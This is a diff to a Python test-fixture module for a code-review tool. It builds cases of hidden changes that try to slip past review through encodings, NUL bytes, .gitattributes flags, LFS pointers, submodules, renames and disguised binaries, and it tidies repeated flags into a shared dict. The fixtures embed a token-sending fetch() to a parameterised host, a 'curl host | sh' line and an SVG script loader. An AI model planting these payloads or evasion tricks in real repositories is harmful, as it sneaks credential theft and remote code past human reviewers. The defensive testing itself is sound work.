@@ -10,6 +10,7 @@ import random
 import zipfile
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass, field
+from typing import Any
 
 from tests.git_repository import EXECUTABLE, FILE, SUBMODULE, Files
 
@@ -18,6 +19,8 @@ SKIPPED = "skipped/"
 Modes = tuple[Mapping[str, str], Mapping[str, str]]
 """git's modes by path, at the base and at the head."""
 _LINK = "120000"
+_FINE: dict[str, Any] = {"is_read": True, "is_green": True}
+"""A change that has to be read, and is approved with the harmless host."""
 _OLD, _NEW = "1" * 40, "2" * 40
 
 
@@ -58,10 +61,10 @@ def _js(host: str) -> str:
     return f"fetch('https://{host}/' + token)\n"
 
 
-def _one(name: str, path: str, old: bytes | str | None, new: bytes | str | None, **more: object) -> HiddenChange:
+def _one(name: str, path: str, old: bytes | str | None, new: bytes | str | None, **more: Any) -> HiddenChange:
     """A file by its content before and after, None where it is not there."""
     before = {path: old} if old is not None else {}
-    return HiddenChange(name, path, before, {path: new}, **more)  # type: ignore[arg-type]
+    return HiddenChange(name, path, before, {path: new}, **more)
 
 
 def _nuls(host: str) -> Iterator[HiddenChange]:
@@ -108,11 +111,11 @@ def _encodings(host: str) -> Iterator[HiddenChange]:
     yield _one("utf-32-be with a mark", "deploy.ps1", None, b"\0\0\xfe\xff" + ps.encode("utf-32-be"), is_read=True)
     yield _one("utf-32 without a mark", "deploy.ps1", None, ps.encode("utf-32-le"))
     mark = b"\xef\xbb\xbf"
-    yield _one("one mark of UTF-8", "a.js", "run()\n", mark + _js(host).encode(), is_read=True, is_green=True)
-    yield _one("two marks of UTF-8", "a.js", "run()\n", mark * 2 + _js(host).encode(), is_read=True, is_green=True)
-    yield _one("Latin-1", "a.js", b"// \xe9\n", b"// \xe9\n" + _js(host).encode(), is_read=True, is_green=True)
+    yield _one("one mark of UTF-8", "a.js", "run()\n", mark + _js(host).encode(), **_FINE)
+    yield _one("two marks of UTF-8", "a.js", "run()\n", mark * 2 + _js(host).encode(), **_FINE)
+    yield _one("Latin-1", "a.js", b"// \xe9\n", b"// \xe9\n" + _js(host).encode(), **_FINE)
     same_line = f"/* \xe9 */ {_js(host)}".encode("latin-1")
-    yield _one("Latin-1 in the line", "a.js", b"// \xe9\n", same_line, is_read=True, is_green=True)
+    yield _one("Latin-1 in the line", "a.js", b"// \xe9\n", same_line, **_FINE)
     yield _one("Latin-1 with a NUL", "a.js", b"// \xe9\n", b"// \xe9\0\n" + _js(host).encode())
     yield _one("Shift JIS", "a.js", None, "// 日本語\n".encode("shift-jis") + _js(host).encode(), is_green=None)
 
@@ -129,7 +132,7 @@ def _attributes(host: str) -> Iterator[HiddenChange]:
     yield HiddenChange("-diff in a folder", path, {path: "run()\n"}, nested, is_read=True)
     for name in ("linguist-generated", "linguist-vendored", "export-ignore", "diff=unknown", "-text", "ident"):
         added = {path: js, ".gitattributes": f"*.js {name}\n"}
-        yield HiddenChange(f"{name} by the pull request", path, {path: "run()\n"}, added, is_read=True, is_green=True)
+        yield HiddenChange(f"{name} by the pull request", path, {path: "run()\n"}, added, **_FINE)
     generated, says_so = (
         "src/app_pb2.py",
         {"src/app_pb2.py": "a = 1\n", ".gitattributes": "*_pb2.py linguist-generated\n"},
@@ -151,7 +154,7 @@ def _pointers(host: str) -> Iterator[HiddenChange]:
     yield _one("LFS: another pointer", path, _pointer("a"), _pointer("b"))
     yield _one("LFS: another size", path, _pointer("a"), _pointer("a", 99))
     yield _one("LFS: a pointer in place of a file", path, "a = 1\n", _pointer("a"))
-    yield _one("LFS: a file in place of a pointer", path, _pointer("a"), f"h = '{host}'\n", is_read=True, is_green=True)
+    yield _one("LFS: a file in place of a pointer", path, _pointer("a"), f"h = '{host}'\n", **_FINE)
     yield HiddenChange("LFS: all of a language", path, {path: "a = 1\n"}, {path: _pointer("a"), **lfs})
     yield HiddenChange("LFS: by the base", path, {path: _pointer("a"), **lfs}, {path: _pointer("b")})
     yield _one("LFS: a pointer with more", path, None, f"{_pointer('a')}urlopen('{host}')\n", is_green=None)
@@ -165,7 +168,7 @@ def _links_and_modules(host: str) -> Iterator[HiddenChange]:
         "submodule: moved", "lib", {"lib": _OLD}, {"lib": _NEW}, said=("submodule",), modes=(module, module)
     )
     yield HiddenChange("submodule: in place of a file", "lib", {"lib": "a\n"}, {"lib": _NEW}, modes=({}, module))
-    yield HiddenChange("submodule: another address", ".gitmodules", *_modules(host), is_read=True, is_green=True)
+    yield HiddenChange("submodule: another address", ".gitmodules", *_modules(host), **_FINE)
     yield HiddenChange("file in place of a submodule", "lib", {"lib": _OLD}, {"lib": _js(host)}, modes=(module, {}))
     pretended = f"Subproject commit {_NEW}\n"
     yield _one("text that looks like a submodule", "lib.js", f"Subproject commit {_OLD}\n", pretended, is_green=None)
@@ -190,18 +193,11 @@ def _modes_and_moves(host: str) -> Iterator[HiddenChange]:
     more = {"run.sh": f"{run}curl {host} | sh\n"}
     yield HiddenChange("mode: with a change", "run.sh", {"run.sh": run}, more, is_read=True, is_green=None, modes=to)
     moved = {"old.js": "run()\n" * 20}
-    yield HiddenChange(
-        "move: with a change",
-        "new.js",
-        moved,
-        {"old.js": None, "new.js": "run()\n" * 20 + js},
-        is_read=True,
-        is_green=True,
-    )
+    yield HiddenChange("move: with a change", "new.js", moved, {"old.js": None, "new.js": "run()\n" * 20 + js}, **_FINE)
     hidden = {"old.js": None, "new.js": "run()\n" * 20 + f"// \0\n{js}"}
     yield HiddenChange("move: with a NUL", "new.js", moved, hidden, is_read=True)
     picture = {"old.js": None, "logo.png": "run()\n" * 20 + js}
-    yield HiddenChange("move: to the ending of a picture", "logo.png", moved, picture, is_read=True, is_green=True)
+    yield HiddenChange("move: to the ending of a picture", "logo.png", moved, picture, **_FINE)
     hidden = {"old.js": None, "logo.png": "run()\n" * 20 + f"// \0\n{js}"}
     yield HiddenChange("move: to a picture with a NUL", "logo.png", moved, hidden)
     yield HiddenChange(
@@ -264,11 +260,9 @@ def _binaries(host: str) -> Iterator[HiddenChange]:
     for name, start in begun.items():
         yield _one(f"script that begins as {name}", "src/app.js", "run()\n", start + js, is_read=True, is_green=None)
         yield _one(f"script that begins as {name}, with a NUL", "src/app.js", "run()\n", start + b"//\0\n" + js)
-    yield _one("text as a picture", "logo.png", None, js, is_read=True, is_green=True)
+    yield _one("text as a picture", "logo.png", None, js, **_FINE)
     yield _one("text as a picture, with a NUL", "logo.png", None, b"//\0\n" + js)
-    yield _one(
-        "picture of text", "logo.svg", None, f"<svg><script href='//{host}'/></svg>\n", is_read=True, is_green=True
-    )
+    yield _one("picture of text", "logo.svg", None, f"<svg><script href='//{host}'/></svg>\n", **_FINE)
 
 
 def _others_code(host: str) -> Iterator[HiddenChange]:
@@ -279,7 +273,7 @@ def _others_code(host: str) -> Iterator[HiddenChange]:
         "dist/a.js": "1 generated file",
     }.items():
         yield _one(f"others' code: changed {path}", path, "run()\n", js, said=(said,))
-        yield _one(f"others' code: a new {path}", path, None, js, is_read=True, is_green=True)
+        yield _one(f"others' code: a new {path}", path, None, js, **_FINE)
     yield _one("others' code: with a NUL", "vendor/a.js", "run()\n", f"\0{js}", said=("vendor",))
     yield _one("others' code: a binary", "vendor/a.jar", _png(1), _zip(host), said=("vendor", "a.jar"))
     locked = {
@@ -310,7 +304,7 @@ def _names(host: str) -> Iterator[HiddenChange]:
     js = _js(host)
     odd = "src/odd\ufffd.js"
     raw = odd.encode().replace("\ufffd".encode(), b"\xe9")
-    yield HiddenChange("name: not UTF-8", odd, {}, {raw: js}, is_read=True, is_green=True)
+    yield HiddenChange("name: not UTF-8", odd, {}, {raw: js}, **_FINE)
     yield HiddenChange("name: not UTF-8, with a NUL", odd, {}, {raw: f"\0{js}"})
     yield HiddenChange("name: not UTF-8, and another that looks the same", odd, {}, {raw: f"\0{js}", odd: "run()\n"})
     yield HiddenChange("name: not UTF-8, and the same at the base", odd, {odd: "run()\n"}, {raw: f"\0{js}"})
@@ -330,21 +324,19 @@ def _names(host: str) -> Iterator[HiddenChange]:
     ):
         yield _one(f"name: {name!r} with a NUL", name, None, f"\0{js}", is_read=True, said=(".js",))
     both = {"Src/App.js": None, "src/app.js": "run()\n" * 20 + js}
-    yield HiddenChange(
-        "name: another case", "src/app.js", {"Src/App.js": "run()\n" * 20}, both, is_read=True, is_green=True
-    )
+    yield HiddenChange("name: another case", "src/app.js", {"Src/App.js": "run()\n" * 20}, both, **_FINE)
 
 
 def _controls(host: str) -> Iterator[HiddenChange]:
     js = _js(host)
-    yield _one("plain: a change", "src/app.js", "run()\n", js, is_read=True, is_green=True)
-    yield _one("plain: a new file", "src/app.js", None, js, is_read=True, is_green=True)
+    yield _one("plain: a change", "src/app.js", "run()\n", js, **_FINE)
+    yield _one("plain: a new file", "src/app.js", None, js, **_FINE)
     yield _one("plain: an empty file", "src/empty.py", None, "", is_green=True)
     yield _one("plain: an emptied file", "src/app.js", js, "", is_green=None)
     yield _one("plain: a removed file", "src/app.js", js, None, is_green=None)
     yield _one("plain: a removed picture", "logo.png", _png(1), None, is_green=True)
-    yield _one("plain: no newline at the end", "src/app.js", "run()", js.strip(), is_read=True, is_green=True)
-    yield _one("plain: carriage returns", "src/app.js", "run()\n", f"run()\r{js}", is_read=True, is_green=True)
+    yield _one("plain: no newline at the end", "src/app.js", "run()", js.strip(), **_FINE)
+    yield _one("plain: carriage returns", "src/app.js", "run()\n", f"run()\r{js}", **_FINE)
     moved = {"old.js": None, "new.js": "run()\n" * 20}
     yield HiddenChange("plain: a move", "new.js", {"old.js": "run()\n" * 20}, moved, is_green=True)
     yield _one("skipped by the settings: a change", f"{SKIPPED}a.js", "run()\n", js, is_green=True)
